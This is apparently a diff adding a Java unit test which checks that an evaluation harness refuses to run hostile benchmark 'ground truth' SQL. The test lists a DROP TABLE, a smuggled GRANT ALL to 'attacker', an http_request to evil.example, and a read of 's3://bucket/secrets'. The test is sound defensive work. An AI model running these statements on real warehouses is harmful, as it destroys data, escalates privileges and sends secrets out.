@@ -157,6 +157,25 @@ class SelfRunEvaluationTest {
     }
 
     @Test
+    void a_ground_truth_that_writes_or_reaches_out_is_never_executed_and_not_scorable() {
+        for (String hostile : List.of("DROP TABLE main.sales.orders",
+                "SELECT 1; GRANT ALL PRIVILEGES ON SCHEMA main.sales TO `attacker`",
+                "SELECT http_request('http://evil.example/x') FROM main.sales.orders",
+                "SELECT * FROM read_files('s3://bucket/secrets')")) {
+            spaces.space = FakeWorkspace.space(SPACE, Map.of(Q1, new String[] {"Sales by region?", hostile}));
+            start(List.of(Q1), 1);
+
+            QuestionOutcome o = done(ask(Q1, 0));
+
+            assertEquals(OutcomeStatus.NOT_SCORABLE, o.status(), hostile);
+            assertEquals(List.of(AssessmentReason.GROUND_TRUTH_FAILED), o.reasons());
+            assertTrue(o.detail().orElseThrow().contains("was not run"), o.detail().orElseThrow());
+            assertTrue(statements.executed.isEmpty(), "nothing reaches the warehouse: " + hostile);
+            assertTrue(genie.asked.isEmpty());
+        }
+    }
+
+    @Test
     void a_benchmark_without_sql_is_not_scorable() {
         spaces.space = FakeWorkspace.space(SPACE, Map.of(Q1, new String[] {"Why did sales drop?", null}));
         start(List.of(), 1);
